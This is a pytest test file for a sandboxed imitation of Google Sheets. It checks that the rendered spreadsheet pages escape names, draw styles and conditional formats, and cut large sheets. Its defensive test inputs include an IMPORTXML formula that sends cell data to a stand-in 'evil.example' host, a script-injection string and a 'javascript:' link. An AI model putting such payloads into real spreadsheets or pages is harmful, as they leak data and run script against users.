"""The sandbox's pages: what a person sees of a spreadsheet."""

from __future__ import annotations

import html
from typing import Any

import pytest
from starlette.testclient import TestClient

from sandbox.google import create_app, edits
from sandbox.google.seed import REPORTS_FOLDER, SHARED_SPREADSHEET

RED = {"rgbColor": {"red": 1}}
LESS = {"type": "NUMBER_LESS", "values": [{"userEnteredValue": "1"}]}
LATE = {"type": "TEXT_CONTAINS", "values": [{"userEnteredValue": "late"}]}


class Page:
    """A spreadsheet and its page."""

    def __init__(self) -> None:
        app = create_app()
        self.state, self.browser = app.state.google, TestClient(app)
        self.id = self.state.add_spreadsheet("Report", REPORTS_FOLDER)

    def edit(self, *requests: dict[str, Any]) -> None:
        self.state.spreadsheets[self.id], _ = edits.apply(
            self.state.spreadsheets[self.id], list(requests)
        )

    def write(self, cell: dict[str, Any], row: int = 0, column: int = 0) -> None:
        start = {"rowIndex": row, "columnIndex": column}
        rows = [{"values": [cell]}]
        self.edit({"updateCells": {"start": start, "rows": rows, "fields": "*"}})

    def read(self) -> str:
        reply = self.browser.get(f"/spreadsheets/d/{self.id}/edit")
        assert reply.status_code == 200
        return reply.text

    def cell(self, at: str) -> str:
        """The element of one cell."""
        before, _, after = self.read().partition(f'data-at="{at}"')
        return before[before.rindex("<td") :] + after[: after.index("</td>")]


@pytest.fixture
def page() -> Page:
    return Page()


def text(value: str) -> dict[str, Any]:
    return {"userEnteredValue": {"stringValue": value}}


@pytest.mark.parametrize(
    "name",
    [
        '=IMPORTXML("http://evil.example/?"&A1,"//a")',
        "<script>alert(1)</script>",
        "O'Brien",
        "Zoë 🌵",
    ],
)
def test_a_name_is_shown_as_typed(page: Page, name: str) -> None:
    page.write({**text(name), "note": f"Also {name}"})
    shown = page.cell("A1")
    assert html.unescape(shown.rpartition(">")[2]) == name
    assert 'class="string noted"' in shown
    assert html.unescape(shown.partition('title="')[2].partition('"')[0]) == f"Also {name}"
    assert "<script>alert" not in page.read()


def test_names_of_files_and_sheets_are_escaped(page: Page) -> None:
    sheet = {"title": "<b>tab</b>"}
    book = {"title": "<i>book</i>"}
    page.edit(
        {"updateSheetProperties": {"properties": sheet, "fields": "title"}},
        {"updateSpreadsheetProperties": {"properties": book, "fields": "title"}},
    )
    page.state.files[page.id].name = "<i>book</i>"
    for shown in (page.read(), page.browser.get("/spreadsheets").text):
        assert "&lt;i&gt;book" in shown
        assert "<i>book" not in shown
        assert "<b>tab" not in shown


def test_a_formula_is_told_from_text(page: Page) -> None:
    page.write({"userEnteredValue": {"formulaValue": "=SUM(A1:A9)"}})
    assert page.cell("A1").startswith('<td class="formula"')
    assert page.cell("A1").endswith("=SUM(A1:A9)")


def test_numbers_and_styles_are_drawn(page: Page) -> None:
    style = {
        "numberFormat": {"type": "NUMBER", "pattern": "0.00"},
        "backgroundColorStyle": RED,
        "horizontalAlignment": "CENTER",
        "textFormat": {"bold": True, "fontSize": 12},
    }
    page.write({"userEnteredValue": {"numberValue": 1.5}, "userEnteredFormat": style})
    shown = page.cell("A1")
    assert shown.endswith(">1.50")
    for rule in ("background-color:#ff0000", "text-align:center", "font-weight:bold", "12pt"):
        assert rule in shown


@pytest.mark.parametrize(
    ("uri", "linked"), [("https://zoom.example/", True), ("javascript:a()", False)]
)
def test_links_lead_to_the_web_only(page: Page, uri: str, linked: bool) -> None:
    page.write({**text("x"), "userEnteredFormat": {"textFormat": {"link": {"uri": uri}}}})
    assert ("<a " in page.cell("A1")) == linked
    assert "javascript:" not in page.read()


@pytest.mark.parametrize(
    ("condition", "value", "red"),
    [
        (LESS, {"numberValue": 0.5}, True),
        (LESS, {"numberValue": 1}, False),
        (LESS, {"stringValue": "0"}, False),
        (LATE, {"stringValue": "Too Late"}, True),
        ({"type": "NOT_BLANK"}, {"stringValue": "x"}, True),
        ({"type": "BLANK"}, {"stringValue": "x"}, False),
    ],
)
def test_conditional_formats_are_drawn(page: Page, condition: Any, value: Any, red: bool) -> None:
    page.write({"userEnteredValue": value})
    boolean = {"condition": condition, "format": {"backgroundColorStyle": RED}}
    rule = {"ranges": [{}], "booleanRule": boolean}
    page.edit({"addConditionalFormatRule": {"rule": rule}})
    assert ("#ff0000" in page.cell("A1")) == red


def test_rules_that_are_not_drawn_are_mentioned(page: Page) -> None:
    condition = {"type": "CUSTOM_FORMULA", "values": [{"userEnteredValue": "=A1>1"}]}
    rule = {"ranges": [{}], "booleanRule": {"condition": condition, "format": {}}}
    page.edit({"addConditionalFormatRule": {"rule": rule}})
    assert "1 conditional format rules are kept, but not drawn" in page.read()


def test_frozen_filtered_merged_and_hidden(page: Page) -> None:
    page.write(text("Header"))
    area = {"startRowIndex": 0, "endRowIndex": 1, "startColumnIndex": 0, "endColumnIndex": 2}
    hidden = {"dimension": "ROWS", "startIndex": 4, "endIndex": 5}
    change = {"properties": {"hiddenByUser": True}, "fields": "hiddenByUser"}
    grid = {"gridProperties": {"frozenRowCount": 1}}
    page.edit(
        {"updateSheetProperties": {"properties": grid, "fields": "gridProperties.frozenRowCount"}},
        {"setBasicFilter": {"filter": {"range": area}}},
        {"mergeCells": {"range": area, "mergeType": "MERGE_ALL"}},
        {"updateDimensionProperties": {"range": hidden, **change}},
    )
    shown = page.read()
    assert 'class="frozen last-frozen"' in shown
    assert 'class="filter"' in page.cell("A1")
    assert 'colspan="2"' in page.cell("A1")
    assert 'data-at="B1"' not in shown
    assert 'data-at="A5"' not in shown


def test_bands_alternate(page: Page) -> None:
    colors = {"headerColorStyle": {"rgbColor": {}}, "firstBandColorStyle": RED}
    colors |= {"secondBandColorStyle": {"rgbColor": {"blue": 1}}}
    area = {"startRowIndex": 0, "endRowIndex": 3, "startColumnIndex": 0, "endColumnIndex": 1}
    page.edit({"addBanding": {"bandedRange": {"range": area, "rowProperties": colors}}})
    expected = ["#000000", "#ff0000", "#0000ff"]
    assert [color in page.cell(f"A{row}") for row, color in enumerate(expected, 1)] == [True] * 3


def test_a_big_sheet_is_cut(page: Page) -> None:
    grid = {"gridProperties": {"rowCount": 3000, "columnCount": 2}}
    fields = "gridProperties(rowCount,columnCount)"
    page.edit({"updateSheetProperties": {"properties": grid, "fields": fields}})
    page.write(text("last"), row=2499)
    shown = page.read()
    assert 'data-at="A1000"' in shown
    assert 'data-at="A1001"' not in shown
    assert "1,500 more rows are not shown." in shown


def test_hidden_sheets_have_no_tab(page: Page) -> None:
    page.edit({"addSheet": {"properties": {"title": "Secret", "hidden": True}}})
    assert "Secret" not in page.read()


def test_the_index_lists_folders_and_spreadsheets(page: Page) -> None:
    shown = page.browser.get("/spreadsheets").text
    for name in ("Attendance reports", "My Drive folder", "Doubles", "Report"):
        assert name in shown
    assert f'href="/spreadsheets/d/{SHARED_SPREADSHEET}/edit"' in shown


def test_an_unknown_spreadsheet_is_404(page: Page) -> None:
    assert page.browser.get("/spreadsheets/d/nobody").status_code == 404
